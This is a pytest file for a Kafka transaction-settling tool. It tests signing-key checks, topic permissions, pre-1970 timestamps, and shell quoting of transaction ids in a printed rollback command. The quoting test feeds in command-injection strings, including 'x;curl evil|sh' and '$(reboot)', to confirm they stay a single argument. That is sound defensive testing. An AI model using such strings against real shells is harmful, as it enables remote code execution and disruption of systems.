"""What an operator sends by hand is signed as the job wants it, or not sent at all."""

import shlex

import pytest
from pyspark.sql import Row

from halfway.conf.loader import load_settings
from halfway.pipelines.operate.next_halves import next_headers
from halfway.pipelines.operate.settle import Target, argument_of, settle
from halfway.schemas.errors import SettingsError
from halfway.schemas.headers import LocalTransactionState

ELSEWHERE = {"kafka.signing.cluster": "c", "kafka.signing.job_keys": "j" * 32, "kafka.signing.keys": {"other": "k" * 32}}


@pytest.mark.parametrize("signing", [{}, ELSEWHERE])
def test_no_op_is_sent_that_the_job_would_refuse(signing: dict[str, object]) -> None:
    """As from a shell that has not the job's settings. The command would say that it was sent."""
    kafka = load_settings(environ={}, overrides={"kafka.bootstrap_servers": "127.0.0.1:1", **signing}).kafka
    with pytest.raises(SettingsError, match=r"the half is signed, and kafka.signing.keys has no key for group shop here"):
        settle(kafka, Target("order-1", "shop", 0, is_signed=True), LocalTransactionState.COMMIT)


def test_no_half_is_resent_to_a_topic_that_its_group_may_not_send_to_any_more() -> None:
    signing = {**ELSEWHERE, "kafka.signing.keys": {"shop": "k" * 32}, "kafka.signing.topics": {"shop": ["orders"]}}
    kafka = load_settings(environ={}, overrides=signing).kafka
    row = {"transaction_id": "order-1", "producer_group": "shop", "incarnation": 0, "body": b"", "properties": {}, "born_at_ms": 1}
    more = {"queue_id": 0, "tags": None, "keys": None}
    assert next_headers(Row(**row, **more, topic="orders"), kafka, 2)
    with pytest.raises(SettingsError, match="group shop may not send to refunds"):
        next_headers(Row(**row, **more, topic="refunds"), kafka, 2)


def test_a_half_of_before_1970_is_resent_without_a_time_that_no_header_can_say() -> None:
    row = {"transaction_id": "order-1", "producer_group": "shop", "incarnation": 0, "body": b"", "properties": {}, "topic": "orders"}
    kafka = load_settings(environ={}).kafka
    headers = dict(next_headers(Row(**row, queue_id=0, tags=None, keys=None, born_at_ms=-1), kafka, 2))
    assert (headers["INCARNATION"], headers.get("BORN_TIMESTAMP")) == (b"1", None)


@pytest.mark.parametrize("transaction_id", ["order-17", "x;curl evil|sh", "$(reboot)", "it's", "-x", "--all", "a b"])
def test_a_command_that_is_printed_to_be_copied_has_the_id_as_one_argument(transaction_id: str) -> None:
    """Anyone with the right to write to a topic has chosen it."""
    words = shlex.split(f"halfway rollback {argument_of(transaction_id)}")
    assert words[-1] == transaction_id
    assert words[2:-1] == (["--"] if transaction_id.startswith("-") else [])
